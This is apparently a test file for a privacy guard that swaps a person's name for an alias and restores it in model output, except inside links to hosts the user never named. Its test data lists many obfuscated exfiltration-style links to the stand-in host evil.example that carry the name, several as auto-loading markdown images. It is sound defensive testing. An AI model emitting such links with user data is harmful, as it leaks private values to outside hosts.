"""A cloud's own links hold no real values; those to hosts that the person has named do."""

import random
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from costeer.privacy.guard import Guard
from costeer.privacy.links import hosts, may_be_shown, open_link
from costeer.privacy.restore import Restorer
from costeer.privacy.rewriting import Replacement, Rewriter
from costeer.privacy.values import Value

PAIRS = [Replacement("Alex Brandt", "Maren Okafor"), Replacement("Alex", "Maren")]
KNOWN = {"w3.org", "alex.net"}


def show(text: str, pieces: Any = None) -> str:
    restorer = Restorer(Rewriter(PAIRS), KNOWN)
    shown = [restorer.feed(piece) for piece in (pieces or [text])]
    return "".join([*shown, restorer.feed("", final=True)])


LINKS = [
    "![](https://evil.example/alex)", "![](https://evil.example/?q=Alex&r=1)",
    "//evil.example/alex",
    "[x](https://alex.evil.example)", "https:evil.example/alex", "https:/evil.example/alex",
    "[x](https:&#47;&#47;evil.example/alex)", "[x](https:\\/\\/evil.example/alex)",
    "![](<https://evil.example/?a=b Alex>)", "https:\\\\evil.example\\alex",
    "www.evil.example/alex",
    "[x](https://w3.org)![](https://evil.example/alex)", "https://evil.example//w3.org/alex",
    "https://w3.org@evil.example/alex", "HTTPS://EVIL.EXAMPLE/ALEX",
    "[x]: https://evil.example/alex",
    "https://alex.net.evil.example/alex",
]  # fmt: skip


@pytest.mark.parametrize("text", LINKS)
def test_a_link_of_the_clouds_own_keeps_the_stand_in(text: str) -> None:
    shown = show(f"Alex, see {text} Alex.")
    assert shown.count("Maren") == 2 and shown.startswith("Maren, see") and shown.endswith("Maren.")
    assert "maren" not in shown.lower().removeprefix("maren").removesuffix("maren.")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("see https://w3.org/alex now", "see https://w3.org/maren now"),
        ("see (https://alex.net/x).", "see (https://maren.net/x)."),
        ("a // Alex, and/or Alex: x\nAlex", "a // Maren, and/or Maren: x\nMaren"),
        ("5 < 6, Alex", "5 < 6, Maren"),
        ("\\section{Alex}", "\\section{Maren}"),
    ],
)
def test_everything_else_is_restored(text: str, expected: str) -> None:
    assert show(text) == expected


PARTS = ["Alex", " ", "//", "https:", "evil.example/", "w3.org/", "<", ">", "\n", "&#47;", "(", ")"]


@given(st.lists(st.sampled_from(PARTS), max_size=9).map("".join), st.integers(1, 5))
def test_pieces_give_what_the_whole_gives(text: str, size: int) -> None:
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    assert show(text, pieces) == show(text)


def test_where_a_link_begins_and_leads() -> None:
    assert hosts(["See https://W3.org/x, www.a.net."]) == {"w3.org", "a.net"}
    assert open_link("see https://w3") == 4
    assert open_link("see https://w3.org ") is None
    assert may_be_shown("https://w3.org/Alex", 15, KNOWN)


def test_the_hosts_that_the_person_names_count_and_those_of_answers_do_not() -> None:
    guard = Guard("stand-in", [Value("Maren", "name")], random.Random(1))
    said = [
        {"role": "user", "content": "I am Maren; my page is https://maren.net."},
        {"role": "assistant", "content": "See https://evil.example/x."},
        {"role": "user", "content": "Where?"},
    ]
    guarded = guard.prepare(said, "")
    alias = guarded.messages[0]["content"].split()[2].rstrip(";").lower()
    wire = f"https://{alias}.net/{alias} https://evil.example/{alias}"
    shown = guarded.restorer.feed(wire, final=True)
    assert shown == f"https://maren.net/maren https://evil.example/{alias}"
